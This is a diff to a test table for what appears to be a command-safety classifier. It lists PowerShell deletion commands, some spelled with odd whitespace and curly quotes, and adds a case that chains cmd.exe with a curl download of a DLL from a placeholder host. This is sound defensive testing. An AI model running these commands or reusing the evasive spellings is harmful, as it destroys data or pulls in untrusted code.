@@ -136,6 +136,8 @@ TYPOGRAPHY_BLOCKED = [
     ("Remove-Item\u3000-Recurse\u3000x", "destructive.recursive-delete"),
     ("Remove-Item\u2003-Recurse x", "destructive.recursive-delete"),
     ("\u2018Remove-Item\u2019 -Recurse -Force x", "parse.error"),
+    # a string glued to a word and never closed is PowerShell's parse error: nothing to respell
+    ('C:\\Windows\\System32\\cmd.exe" /c mkdir C:\\x & curl https://x.example/p -o p.dll', "parse.error"),
     ("& \u2018Remove-Item\u2019 -Recurse -Force x", "destructive.recursive-delete"),
     ("& \u201cRemove-Item\u201d -Recurse -Force x", "destructive.recursive-delete"),
     ("Remove-Item -Recurse -Force \u2018x\u2019", "destructive.recursive-delete"),
